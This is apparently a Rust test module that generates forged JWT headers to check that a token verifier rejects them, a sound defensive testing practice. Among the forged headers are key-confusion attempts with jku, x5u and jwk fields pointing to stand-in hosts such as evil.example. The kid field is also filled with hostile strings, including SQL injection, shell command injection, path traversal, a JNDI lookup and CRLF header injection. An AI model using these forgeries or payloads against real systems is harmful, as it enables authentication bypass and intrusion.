//! A header that is not ours, whoever signed it.

use base64::Engine;
use serde_json::{Value, json};

use super::{Add, Forger, OWN_SECRET, URL_SAFE_NO_PAD, json, signed, without};

pub(super) fn forge(forger: &Forger<'_>, add: &mut Add<'_>) {
    types(forger, add);
    key_ids(forger, add);
    additions(forger, add);
    duplicates(forger, add);
    shapes(forger, add);
}

fn types(forger: &Forger<'_>, add: &mut Add<'_>) {
    for typ in [
        json!("JWT"),
        json!("jwt"),
        json!("at+JWT"),
        json!("AT+JWT"),
        json!("application/at+jwt"),
        json!("refresh+jwt"),
        json!("id+jwt"),
        json!("logout+jwt"),
        json!(""),
        json!(" at+jwt"),
        json!("at+jwt "),
        json!("at+jwt\0"),
        json!("at jwt"),
        json!("at\u{ff0b}jwt"),
        Value::Null,
        json!(true),
        json!(1),
        json!([]),
        json!(["at+jwt"]),
        json!({"typ": "at+jwt"}),
    ] {
        add(format!("typ {typ}"), forger.under_header(forger.header("typ", typ)));
    }
    add("no typ".to_owned(), forger.under_header(without(&forger.header, "typ")));
}

/// Each signed with the right secret, with an empty one, which is what `/dev/null` holds, and
/// with the forger's own.
fn key_ids(forger: &Forger<'_>, add: &mut Add<'_>) {
    let kid = forger.kid();
    for id in [
        json!(""),
        json!("00000000"),
        json!("1"),
        json!("default"),
        json!(kid.to_uppercase() + "A"),
        json!(kid[1..]),
        json!(kid[..7]),
        json!(format!("{kid} ")),
        json!(format!(" {kid}")),
        json!(format!("{kid}\0")),
        json!(format!("{kid}\n")),
        json!(format!("{kid},{kid}")),
        json!(format!("\0{kid}")),
        json!(format!("{kid}\u{200b}")),
        json!("*"),
        json!("%"),
        json!("/dev/null"),
        json!("../../../../../../dev/null"),
        json!("..\\..\\..\\NUL"),
        json!("%2e%2e%2fdev%2fnull"),
        json!("file:///dev/null"),
        json!("https://evil.example/key"),
        json!("' OR '1'='1"),
        json!("' UNION SELECT '' --"),
        json!("x'; DROP TABLE users; --"),
        json!("$(id)"),
        json!("| cat /etc/passwd"),
        json!("{{7*7}}"),
        json!("${jndi:ldap://evil}"),
        json!("\0"),
        json!("\r\nX-Injected: yes"),
        json!("\u{ff10}".repeat(8)),
        json!("0".repeat(2_000)),
        Value::Null,
        json!(0),
        json!(true),
        json!([kid]),
        json!({"kid": kid}),
    ] {
        let header = forger.header("kid", id.clone());
        let claims = json(&forger.claims);
        add(format!("kid {id:.40}"), forger.under_header(&header));
        for secret in ["", OWN_SECRET] {
            let what = format!("kid {id:.40}, signed with {secret:?}");
            add(what, signed(&header, &claims, secret));
        }
    }
    add("no kid".to_owned(), forger.under_header(without(&forger.header, "kid")));
}

/// Each signed with the right secret, and with the one that some bring along.
fn additions(forger: &Forger<'_>, add: &mut Add<'_>) {
    let own = URL_SAFE_NO_PAD.encode(OWN_SECRET);
    for (name, value) in [
        ("jwk", json!({"kty": "oct", "k": own})),
        ("jwk", json!({"kty": "oct", "k": own, "alg": "HS256", "kid": forger.kid()})),
        ("jwk", json!({"kty": "RSA", "n": own, "e": "AQAB"})),
        ("jwk", json!({})),
        ("jwks", json!({"keys": [{"kty": "oct", "k": own}]})),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("http://127.0.0.1/jwks.json")),
        ("jku", json!("file:///etc/passwd")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!([own])),
        ("x5c", json!([])),
        ("x5t", json!(own)),
        ("x5t#S256", json!(own)),
        ("crit", json!([])),
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["https://evil.example/extension"])),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("cty", json!("JWT")),
        ("epk", json!({"kty": "EC"})),
        ("p2c", json!(1_000_000_000)),
        ("url", json!("https://evil.example")),
        ("nonce", json!("1")),
        ("exp", json!(9_999_999_999_u64)),
        ("key", json!(OWN_SECRET)),
        ("secret", json!(OWN_SECRET)),
        ("ALG", json!("none")),
        ("Kid", json!("0")),
        ("", json!("")),
        ("__proto__", json!({"alg": "none"})),
    ] {
        let header = forger.header(name, value.clone());
        add(format!("{name} {value}"), forger.under_header(&header));
        let own = signed(&header, json(&forger.claims), OWN_SECRET);
        add(format!("{name} {value}, signed with the forger's secret"), own);
    }
}

fn duplicates(forger: &Forger<'_>, add: &mut Add<'_>) {
    let header = json(&forger.header);
    for (name, value) in [
        ("alg", "\"none\""),
        ("alg", "\"HS256\""),
        ("typ", "\"JWT\""),
        ("typ", "\"at+jwt\""),
        ("kid", "\"0\""),
        ("kid", "null"),
    ] {
        let before = header.replacen('{', &format!("{{\"{name}\":{value},"), 1);
        let after = format!("{},\"{name}\":{value}}}", header.trim_end_matches('}'));
        add(format!("{name} {value} and again"), forger.under_header(before));
        add(format!("{name} again, {value}"), forger.under_header(after));
    }
}

/// Headers that are no JSON object like ours.
fn shapes(forger: &Forger<'_>, add: &mut Add<'_>) {
    let header = json(&forger.header);
    for shape in [
        String::new(),
        "{}".to_owned(),
        "[]".to_owned(),
        "null".to_owned(),
        "\"HS256\"".to_owned(),
        "HS256".to_owned(),
        "{".to_owned(),
        header.trim_end_matches('}').to_owned(),
        format!("[{header}]"),
        format!("{header}{header}"),
        format!("{header},"),
        format!("{header}\0"),
        format!("\u{feff}{header}"),
        format!("{header}//"),
        header.replacen('}', ",}", 1),
        header.replace('"', "'"),
        header.to_uppercase(),
    ] {
        add(format!("header {shape:?}"), forger.under_header(&shape));
    }
    let not_utf8 = [header.as_bytes(), b"\xff"].concat();
    add("a header that is no UTF-8".to_owned(), forger.under_header(not_utf8));
}
